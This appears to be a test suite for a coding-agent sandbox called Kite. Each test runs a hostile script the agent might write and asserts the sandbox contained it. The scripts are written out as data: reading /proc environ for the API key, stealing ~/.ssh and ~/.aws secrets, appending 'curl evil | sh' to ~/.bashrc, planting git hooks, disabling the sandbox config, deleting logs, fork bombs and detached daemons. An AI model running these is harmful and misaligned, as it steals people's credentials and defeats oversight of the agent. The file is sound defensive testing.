// One attack per test, each by a gate check running a script the agent wrote — exactly what an
// unattended run executes without asking. Each asserts the harm did NOT happen and the run still
// ended cleanly. Run as root and as an unprivileged user (see hostileKit.ts).
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:net';
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildOnce, eventually, events, fakeHome, hostileProject, hostProcessesWith, identities, KEY, out, outcome, runKite, runKiteAsync, startKite } from './hostileKit';

const hash = (f: string) => (existsSync(f) ? createHash('sha256').update(readFileSync(f)).digest('hex') : 'absent');

describe('hostile: what a gate check the agent wrote cannot do (real bwrap, real kite)', function () {
  this.timeout(120_000);
  before(buildOnce);

  for (const as of identities()) {
    describe(`as ${as.label}`, () => {
      it('reads /proc/*/environ of every visible process and finds neither Kite nor its key', () => {
        const p = hostileProject(as, [
          'for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null; echo; done | tr "\\000" "\\n" > out/environ',
          'for f in /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null; echo; done | tr "\\000" " " > out/cmdlines',
          'env >> out/environ',
        ].join('\n'));
        const r = runKite(as, p);
        assert.equal(r.status, 0, r.stderr);
        assert.ok(out(p, 'environ').length > 0, 'the attack ran');
        assert.ok(!out(p, 'environ').includes(KEY), 'the key is not visible');
        assert.doesNotMatch(out(p, 'environ'), /ANTHROPIC/);
        assert.doesNotMatch(out(p, 'cmdlines'), /cli\.js|kite run|node /, 'no Kite process is visible');
        assert.ok(!readFileSync(join(p.repo, '.kite', 'runs', readdirSync(join(p.repo, '.kite', 'runs')).find((f) => f.endsWith('.jsonl')) ?? ''), 'utf8').includes(KEY));
        assert.equal(outcome(p), 'done');
      });

      it("cannot read the person's ~/.ssh or ~/.aws, nor write ~/.bashrc, the host's /tmp or outside the workspace", () => {
        const token = `kite-hostile-${process.pid}-${as.uid}`;
        const p = hostileProject(as, [
          'cat ~/.ssh/id_ed25519 ~/.aws/credentials > out/stolen 2>&1',
          'ls -A ~ > out/home',
          'echo "curl evil | sh" >> ~/.bashrc',
          `echo pwned > /tmp/${token}`,
          `echo pwned > ../${token}`,
          'exit 0',
        ].join('\n'));
        const home = fakeHome(p, as);
        const bashrc = hash(join(home, '.bashrc'));
        const r = runKite(as, p, { HOME: home });
        assert.equal(r.status, 0, r.stderr);
        assert.ok(!out(p, 'stolen').includes(KEY), 'secrets in the home were not readable');
        assert.doesNotMatch(out(p, 'home'), /\.ssh|\.aws|\.bashrc/);
        assert.equal(hash(join(home, '.bashrc')), bashrc, '~/.bashrc unchanged');
        assert.equal(existsSync(join('/tmp', token)), false, 'nothing written to the host /tmp');
        assert.equal(existsSync(join(p.base, token)), false, 'nothing written outside the workspace');
        assert.equal(outcome(p), 'done');
      });

      it("a workspace config that mounts ~/.ssh or the whole home, and a PATH through the home, show the command nothing; the log says why", () => {
        const p = hostileProject(as, ['cat "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials" > out/stolen 2>&1', 'ls -A "$HOME" > out/home', 'exit 0'].join('\n'));
        const home = fakeHome(p, as);
        const config = join(p.repo, '.kite', 'config.json');
        writeFileSync(config, JSON.stringify({ checks: ['sh attack.sh'], sandbox: { mounts: { read_only: [join(home, '.ssh'), home, '/home'] } } }));
        execFileSync('git', ['-c', 'safe.directory=*', '-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qam', 'mounts'], { cwd: p.repo });
        if (as.user !== null) execFileSync('chown', ['-R', `${as.uid}:${as.gid}`, p.repo]);
        const r = runKite(as, p, { HOME: home, PATH: `${home}:${process.env.PATH ?? ''}` });
        assert.equal(r.status, 0, r.stderr);
        assert.ok(!out(p, 'stolen').includes(KEY), 'no secret was readable');
        assert.doesNotMatch(out(p, 'home'), /\.ssh|\.aws|\.bashrc/);
        const refused = events(p).filter((e) => e.kind === 'warning' && e.code === 'sandbox_mount_refused');
        assert.equal(refused.length, 4, JSON.stringify(refused));
        assert.equal(outcome(p), 'done');
      });

      for (const network of ['none', 'host'] as const) {
        it(`network ${network}: a listener on the host's 127.0.0.1 is ${network === 'none' ? 'unreachable' : 'reachable'}; a server the check starts itself always is`, async () => {
          let connections = 0;
          const server: Server = createServer((s) => {
            connections++;
            s.destroy();
          });
          await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
          const port = (server.address() as { port: number }).port;
          try {
            const connect = `const s=require('net').connect(${port},'127.0.0.1');s.on('connect',()=>{require('fs').writeFileSync('out/host','connected');s.end()});s.on('error',e=>require('fs').writeFileSync('out/host','error '+e.code))`;
            const own = `const n=require('net');const v=n.createServer(c=>c.end('pong')).listen(0,'127.0.0.1',()=>n.connect(v.address().port,'127.0.0.1').on('data',d=>{require('fs').writeFileSync('out/own',String(d));process.exit(0)}))`;
            const p = hostileProject(as, `node -e "${connect}"\nnode -e "${own}"\nexit 0\n`, { sandbox: { network } });
            const r = await runKiteAsync(as, p);
            assert.equal(r.status, 0, r.stderr);
            assert.equal(out(p, 'own'), 'pong', 'its own loopback works');
            if (network === 'none') {
              assert.match(out(p, 'host'), /^error /);
              assert.equal(connections, 0, 'the host listener saw no connection');
            } else {
              assert.equal(out(p, 'host'), 'connected');
              await eventually(() => connections > 0, 'the host listener to see the connection');
            }
            const start = events(p).find((e) => e.kind === 'session_start');
            assert.ok(start?.kind === 'session_start' && start.sandbox?.network === network, 'the run records its network setting');
          } finally {
            server.close();
          }
        });
      }

      it('a daemon started with setsid, nohup or a double fork is gone when the check returns', async () => {
        const t = `${process.pid}${as.uid}`;
        const p = hostileProject(as, [`setsid sh -c 'exec sleep 300.${t}1' >/dev/null 2>&1 &`, `( ( exec sleep 300.${t}2 >/dev/null 2>&1 & ) & )`, `nohup sleep 300.${t}3 >/dev/null 2>&1 &`, 'touch out/daemons', 'exit 0'].join('\n'));
        const r = runKite(as, p);
        assert.equal(r.status, 0, r.stderr);
        assert.ok(existsSync(join(p.repo, 'out', 'daemons')), 'the attack ran');
        await eventually(() => hostProcessesWith(`300.${t}`).length === 0, 'no daemon left on the host');
      });

      it('a fork bomb meets the process limit and a 4 GiB allocation the memory limit; the run goes on', () => {
        const alloc = "const a=[];try{for(let i=0;i<64;i++)a.push(Buffer.alloc(64*1024*1024,1));require('fs').writeFileSync('out/alloc','allocated '+a.length*64)}catch(e){require('fs').writeFileSync('out/alloc','failed after '+a.length*64+' MiB')}";
        const p = hostileProject(as, [`node -e "${alloc}"`, '( bomb() { bomb | bomb & }; bomb ) 2>/dev/null', 'sleep 1 2>/dev/null', 'echo survived > out/bomb', 'exit 0'].join('\n'), { sandbox: { limits: { processes: 64, memory_mb: 2048 } } });
        const before = readdirSync('/proc').filter((n) => /^\d+$/.test(n)).length;
        const r = runKite(as, p);
        assert.equal(r.status, 0, r.stderr);
        assert.match(out(p, 'alloc'), /^failed after \d+ MiB$/);
        assert.ok(Number(/(\d+)/.exec(out(p, 'alloc'))?.[1]) < 2048, 'stopped below the 2 GiB limit');
        assert.equal(out(p, 'bomb').trim(), 'survived');
        const after = readdirSync('/proc').filter((n) => /^\d+$/.test(n)).length;
        assert.ok(after < before + 50, `the host was not flooded with processes (${before} → ${after})`);
        const start = events(p).find((e) => e.kind === 'session_start');
        assert.ok(start?.kind === 'session_start' && start.sandbox?.process_limit !== 'none', `the process limit is enforced (${start?.kind === 'session_start' ? start.sandbox?.process_limit : ''})`);
        assert.equal(outcome(p), 'done');
      });

      it("cannot change .kite/config.json, kite-progress.json, .git/config, .git/hooks/ or the logs", () => {
        const p = hostileProject(as, [
          `echo '{"policy":{"allow":[".*"]},"sandbox":"off"}' > .kite/config.json`,
          `echo '{"goal":"x","log":[],"features":[]}' > kite-progress.json`,
          'git config core.fsmonitor "touch /tmp/kite-fsmonitor-ran"',
          'printf "#!/bin/sh\\ntouch /tmp/kite-hook-ran\\n" > .git/hooks/post-commit; chmod +x .git/hooks/post-commit',
          'rm -rf .kite/runs; mv .kite .kite-gone; mv .git .git-gone',
          'ls -la .kite .git > out/listing 2>&1',
          'exit 0',
        ].join('\n'));
        const config = hash(join(p.repo, '.kite', 'config.json'));
        const gitConfig = hash(join(p.repo, '.git', 'config'));
        const r = runKite(as, p);
        assert.equal(r.status, 0, r.stderr);
        assert.ok(out(p, 'listing').length > 0, 'the attack ran');
        assert.equal(hash(join(p.repo, '.kite', 'config.json')), config);
        assert.equal(hash(join(p.repo, '.git', 'config')), gitConfig);
        assert.equal(existsSync(join(p.repo, '.git', 'hooks', 'post-commit')), false);
        assert.equal(existsSync('/tmp/kite-hook-ran') || existsSync('/tmp/kite-fsmonitor-ran'), false, 'nothing planted ran during Kite\'s commit');
        const progress = JSON.parse(readFileSync(join(p.repo, 'kite-progress.json'), 'utf8')) as { features: { id: string; status: string }[] };
        assert.equal(progress.features[0].status, 'done', 'Kite wrote the progress file; the check could not');
        assert.equal(outcome(p), 'done', 'the log survived');
      });

      it('kill -9 of Kite during a `sleep 300` command leaves no process behind', async () => {
        const t = `${process.pid}${as.uid}9`;
        const p = hostileProject(as, `touch out/started\nexec sleep 300.${t}\n`, { command_timeout: 600 });
        const child = startKite(as, p);
        await eventually(() => existsSync(join(p.repo, 'out', 'started')), 'the command to start', 30_000);
        await eventually(() => hostProcessesWith(`300.${t}`).length > 0, 'the sleep to run (the script execs it after touching out/started)');
        for (const pid of hostProcessesWith(p.script)) process.kill(pid, 'SIGKILL');
        await new Promise((r) => child.on('close', r));
        await eventually(() => hostProcessesWith(`300.${t}`).length === 0, 'the sleep to die with Kite');
      });

      it('environment allowlist: twenty secret-ish variables with unusual names never reach a command; sandbox.env.pass passes exactly the named ones', () => {
        const names = ['MYSQL_PWD', 'DB_PASS', 'SMTP_PASS', 'SLACK_WEBHOOK_URL', 'STRIPE_SK', 'CI_JOB_JWT', 'CONN_STR', 'PGPASSFILE', 'MONGO_CREDS', 'SENDGRID_APIKEY', 'TWILIO_SID', 'PAYPAL_CLIENT', 'JIRA_PW', 'LDAP_BIND', 'MAILGUN', 'SIGNING_SEED', 'CF_SECRETZ', 'BASIC_AUTH_USERPW', 'PRIVKEY_PEM', 'X_API'];
        const env = Object.fromEntries(names.map((n, i) => [n, `leak-${i}-${n.toLowerCase()}`]));
        const p = hostileProject(as, 'env > out/env\n', { sandbox: { env: { pass: ['NEEDED_ONE', 'NEEDED_TWO'] } } });
        const r = runKite(as, p, { ...env, NEEDED_ONE: 'one', NEEDED_TWO: 'two', NOT_NEEDED: 'three' });
        assert.equal(r.status, 0, r.stderr);
        const seen = out(p, 'env');
        for (const n of names) assert.ok(!seen.includes(env[n]), `${n} reached the command`);
        assert.ok(!seen.includes(KEY));
        assert.match(seen, /^NEEDED_ONE=one$/m);
        assert.match(seen, /^NEEDED_TWO=two$/m);
        assert.doesNotMatch(seen, /NOT_NEEDED/);
        const allowed = /^(PATH|LANG|LANGUAGE|LC_\w+|TERM|TZ|CI|HOME|TMPDIR|PWD|SHLVL|OLDPWD|_|NEEDED_ONE|NEEDED_TWO|GIT_TERMINAL_PROMPT|GIT_PAGER|PAGER|KITE_AGENT|KITE_SANDBOX)$/;
        for (const line of seen.split('\n').filter(Boolean)) assert.match(line.split('=')[0], allowed, `unexpected variable ${line.split('=')[0]}`);
      });
    });
  }
});
